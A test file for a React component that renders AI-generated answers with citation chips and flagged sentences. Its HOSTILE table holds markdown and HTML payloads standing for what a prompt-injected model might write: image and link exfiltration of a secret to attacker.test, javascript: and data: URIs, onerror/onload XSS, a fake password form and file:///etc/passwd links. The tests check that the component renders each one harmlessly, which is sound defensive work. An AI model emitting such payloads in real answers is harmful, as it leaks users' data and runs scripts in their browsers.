import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";

import type { Citation, Finding } from "../types";
import { AnswerText } from "./Answer";

const citation = (number: number, more: Partial<Citation> = {}) =>
  ({ number, available: true, document_id: `d${number}`, document_name: `file-${number}.pdf`, ...more }) as Citation;

const CITATIONS = [citation(1), citation(2, { source_url: "https://sharepoint.test/a%20b?x=1" }), citation(12)];

function show(text: string, isGrowing = false, citations: readonly Citation[] = CITATIONS): HTMLElement {
  const { container } = render(
    <QueryClientProvider client={new QueryClient()}>
      <AnswerText text={text} citations={citations} isGrowing={isGrowing} onCite={() => undefined} />
    </QueryClientProvider>,
  );
  return container;
}

const chips = (box: HTMLElement) =>
  [...box.querySelectorAll("button[aria-label^='Source']")].map((chip) => Number(chip.textContent));
const links = (box: HTMLElement) => [...box.querySelectorAll("a")].map((link) => link.href);

afterEach(cleanup);

describe("citation markers", () => {
  it.each([
    ["alone", "It is so [1].", [1]],
    ["side by side", "It is so [1][2].", [1, 2]],
    ["with two digits", "It is so [12].", [12]],
    ["in a table", "| a |\n|---|\n| b [2] |\n", [2]],
    ["in bold and in a list", "- **so** it is **[1]**\n- [2] too", [1, 2]],
    ["in a heading", "## So [1]", [1]],
    [
      "beside a list of the sources",
      "[1]: handbook.pdf\n[2]: <https://evil.test>\n\nSo [1] and so [2][1].",
      [1, 2, 1, 2, 1],
    ],
    ["with a definition of its number in the same block", "[1]: https://evil.test\nSo [1].", [1, 1]],
    ["behind words in brackets", "[1]: https://evil.test\n[the words][1] and [1][].", [1, 1, 1]],
  ])("are chips %s", (_, text, expected) => {
    const box = show(text);
    expect(chips(box)).toEqual(expected);
    expect(box.querySelector("a")).toBeNull();
  });

  it.each([
    ["in a line's code", "Take `a[1]` now.", "Take a[1] now."],
    ["of a source that is not there", "It is so [9].", "It is so [9]."],
    ["that are words", "An array[index] and [sic].", "An array[index] and [sic]."],
    ["escaped", "Not \\[one].", "Not [one]."],
    ["with a sign or too many digits", "See [-1], [1.5], [1234] and [].", "See [-1], [1.5], [1234] and []."],
    ["in a link's words", "See [as [1] says](/knowledge/).", "See as [1] says (localhost:3000)."],
  ])("stay text %s", (_, text, expected) => {
    const box = show(text);
    expect(chips(box)).toEqual([]);
    expect(box.textContent).toBe(expected);
  });

  it("stay text in a block of code", () => {
    const box = show("```js\na[1] = b[2];\n```");
    expect(chips(box)).toEqual([]);
    expect(box.querySelector("pre")?.textContent).toBe("a[1] = b[2];");
  });

  it("say so when the source may no longer be read", () => {
    const box = show("It was so [1].", false, [citation(1, { available: false, document_name: null })]);
    expect(box.querySelector("button")).toBeNull();
    expect(box.querySelector("[role=img]")?.getAttribute("aria-label")).toContain("No longer available");
  });
});

const AWAY = "https://attacker.test/p.png?q=secret";
const HOSTILE: Record<string, string> = {
  "an image": `![a](${AWAY})`,
  "an image of no protocol": "![a](//attacker.test/p.png)",
  "an image of backslashes": "![a](/\\attacker.test/p.png)",
  "an image by reference": `![a][r]\n\n[r]: ${AWAY}`,
  "an image by reference in one block": `[r]: ${AWAY}\n![a][r] ![r][] ![r]`,
  "an image of data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "an image of our own": "![a](/api/documents/1/original)",
  "an image in a link": `[![a](${AWAY})](${AWAY})`,
  "an image in a table": `| a |\n|---|\n| ![a](${AWAY}) |\n`,
  "an image in a footnote": `So[^n].\n\n[^n]: ![a](${AWAY})`,
  "a link": `[a](${AWAY})`,
  "a link by reference": `[r]: ${AWAY}\n[a][r] [r][] [r]`,
  "a link of no protocol": "[a](//attacker.test/)",
  "a link of backslashes": "[a](\\\\attacker.test) [b](/\\attacker.test)",
  "a link's script": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
  "a link's script, written otherwise":
    "[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1)) [c](\u0001javascript:alert(1))",
  "a link of data": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](blob:http://localhost/1)",
  "a link of a file or of mail": "[a](file:///etc/passwd) [b](mailto:a@attacker.test?body=secret) [c](tel:1)",
  "a link with somebody in it": "[a](http://localhost:3000@attacker.test/) [b](http://me:pw@localhost:3000/)",
  "a link into the API":
    "[a](/api/auth/logout) [b](/x/../api/me) [c](/%61pi/me) [d](//localhost:3000//api/me) [e](/api)",
  "a link that hides": "[a](https://sharepoint.test/a%20b?x=1&more=secret) [b](https://sharepoint.test.attacker.test/)",
  "a link of invisible letters": "[a](https://share\u200bpoint.test/) [b](/know\u00adledge/)",
  "an autolink": `<${AWAY}> <javascript:alert(1)> <a@attacker.test>`,
  "a bare address": `${AWAY} www.attacker.test a@attacker.test`,
  "a relative link": "[a](handbook.pdf) [b](#top) [c](?q=1) [d](./x)",
  "an element with a handler": '<img src=x onerror=alert(1)> and <svg/onload=alert(1)> and <b onclick="x()">b</b>',
  "elements in a block": `<iframe src="${AWAY}"></iframe>\n\n<script>alert(1)</script>\n\n<style>@import "${AWAY}";</style>`,
  "elements that change the page": `<base href="${AWAY}">\n<meta http-equiv=refresh content="0;url=${AWAY}">\n<link rel=stylesheet href="${AWAY}">`,
  "a form": `<form action="${AWAY}"><input name=password><button>Sign in</button></form>`,
  "an element that holds on to names":
    '<a id="composer" name="location" class="fixed inset-0" style="position:fixed">x</a>',
  "code whose language is a class": "```x fixed inset-0\ncode\n```\n\n```fixed\ncode\n```",
  "formulas and diagrams": `$\\href{javascript:alert(1)}{x}$\n\n\`\`\`mermaid\ngraph TD; A-->B; click A "${AWAY}"\n\`\`\``,
};

const FETCHES =
  "img, picture, source, video, audio, iframe, frame, object, embed, script, style, link, meta, base, form, svg image, math";

describe("what a model was talked into writing", { timeout: 30_000 }, () => {
  it.each(Object.entries(HOSTILE))("is harmless: %s", (_, text) => {
    for (let cut = 1; cut <= text.length; cut += cut + 3 < text.length ? 3 : 1) {
      const isGrowing = cut < text.length;
      const box = show(text.slice(0, cut), isGrowing);
      expect(links(box), text.slice(0, cut)).toEqual([]);
      expect(box.querySelector(FETCHES)).toBeNull();
      for (const element of box.querySelectorAll("*")) {
        const names = element.getAttributeNames();
        expect(
          names.filter((name) => /^on|^(?:src|srcset|href|style|action|id|name|ping|background)$/.test(name)),
        ).toEqual([]);
        if (!element.closest("section, button, div > div")) expect(element.className).not.toMatch(/fixed|inset/);
      }
      cleanup();
    }
  });

  it("leaves an image's words, and shows HTML as it was written", () => {
    expect(show(`See ![the plan](${AWAY}).`).textContent).toBe("See [image: the plan].");
    cleanup();
    expect(show("A List<String>, <b>not bold</b>.").textContent).toBe("A List<String>, <b>not bold</b>.");
    cleanup();
    expect(show("<div onclick=x>\nin a block\n</div>").textContent).toContain("<div onclick=x>");
    cleanup();
    expect(show("one<br>two").querySelectorAll("br")).toHaveLength(1);
  });
});

describe("links", () => {
  it("lead to pages of our own and to the sources, in a tab of their own that learns nothing", () => {
    const box = show("[a](/knowledge/?x=1) [b](https://sharepoint.test/a%20b?x=1) <https://sharepoint.test/a%20b?x=1>");
    expect(links(box)).toEqual([
      "http://localhost:3000/knowledge/?x=1",
      "https://sharepoint.test/a%20b?x=1",
      "https://sharepoint.test/a%20b?x=1",
    ]);
    for (const link of box.querySelectorAll("a")) {
      expect(link.rel).toBe("noopener noreferrer");
      expect(link.textContent).toContain(`(${new URL(link.href).host})`);
    }
  });
});

describe("what an answer is made of", () => {
  it("keeps the order of headings below the page's own", () => {
    const box = show("# a\n\n## b\n\n### c\n\n#### d");
    expect(box.querySelector("h1, h2")).toBeNull();
  });

  it("strikes with two tildes, for one means about", () => {
    const box = show("It is ~5 to 6~ and 7~8, ~~not 9~~.");
    expect([...box.querySelectorAll("del")].map((one) => one.textContent)).toEqual(["not 9"]);
  });

  it("lets the keyboard reach what scrolls", () => {
    const box = show("| a |\n|---|\n| b |\n\n```\ncode\n```");
    expect(box.querySelector("section")?.tabIndex).toBe(0);
    expect(box.querySelector("section")?.getAttribute("aria-label")).toBe("Table");
    expect(box.querySelector("pre")?.tabIndex).toBe(0);
  });
});

it("keeps the focus on a chip while text and sources come in", () => {
  const client = new QueryClient();
  const at = (text: string, citations: readonly Citation[], isGrowing: boolean) => (
    <QueryClientProvider client={client}>
      <AnswerText text={text} citations={citations} isGrowing={isGrowing} onCite={() => undefined} />
    </QueryClientProvider>
  );
  const { container, rerender } = render(at("It is so [1]", CITATIONS.slice(0, 1), true));
  const chip = container.querySelector("button");
  chip?.focus();
  rerender(at("It is so [1] and so [2].", CITATIONS.slice(0, 2), true));
  rerender(at("It is so [1] and so [2].\n\nDone.", [...CITATIONS], false));
  expect(chips(container)).toEqual([1, 2]);
  expect(document.activeElement).toBe(chip);
  expect(container.contains(chip)).toBe(true);
});

describe("sentences in doubt", () => {
  /** The answer with a doubt about each part that stands between ‹ and ›. */
  function doubted(marked: string, doubt: Finding["doubt"] = "not_found"): HTMLElement {
    const text = marked.replace(/[‹›]/g, "");
    const points = [...marked];
    const findings: Finding[] = [];
    let at = 0;
    for (const point of points) {
      if (point === "‹") findings.push({ start: at, end: at, score: 0.1, doubt, words: ["42"] });
      else if (point === "›") (findings.at(-1) as Finding).end = at;
      else at += 1;
    }
    return render(
      <AnswerText
        text={text}
        citations={CITATIONS}
        findings={[{ start: 0, end: 1, score: 1, doubt: null, words: [] }, ...findings]}
        isGrowing={false}
        onCite={() => undefined}
      />,
    ).container;
  }
  const marked = (box: HTMLElement) => [...box.querySelectorAll("mark")].map((each) => each.textContent);

  it.each([
    ["in a paragraph", "It is so. ‹It is not so.› So.", ["It is not so."]],
    ["behind an emoji", "😀 So. ‹It is not so.›", ["It is not so."]],
    ["around citations", "So [1]. ‹It is 5 [1] or 6 [2].› So.", ["It is 5 1 or 6 2."]],
    ["with emphasis in it", "‹It is **not** so.› So.", ["It is ", "not", " so."]],
    ["with code in it", "‹It is `not()` so.› So.", ["It is ", "not()", " so."]],
    ["of which one follows the other", "‹It is.› ‹It was.›", ["It is.", "It was."]],
    ["in a later block", "So it is.\n\nAnd so.\n\n‹It is not so.›", ["It is not so."]],
    ["in two equal blocks", "It is.\n\n‹It is.›", ["It is."]],
    ["in a list", "- So.\n- ‹It is not so [1].›\n- So.", ["It is not so 1."]],
    ["in a table", "| a | b |\n|---|---|\n| c | ‹It is not.› |\n", ["It is not."]],
    ["with escapes: all of that piece", "So. ‹It is \\*not\\* so.› So.", ["So. It is *not* so. So."]],
  ])("are marked %s", (_, text, expected) => {
    const box = doubted(text);
    expect(marked(box)).toEqual(expected);
    expect(box.querySelectorAll("button[aria-label^='Why']")).toHaveLength(text.split("‹").length - 1);
  });

  it("say why, at their end", () => {
    const box = doubted("‹It is **5** [1], or 42.› So.", "number");
    const button = box.querySelector("button[aria-label^='Why']");
    expect(button?.getAttribute("aria-label")).toContain("“42” does not stand in the passages cited");
    expect(button?.previousElementSibling?.textContent).toBe(" 1, or 42.");
  });

  it("are no more than the server has found", () => {
    expect(marked(show("It is <mark data-doubt='0'>so</mark>."))).toEqual([]);
  });
});
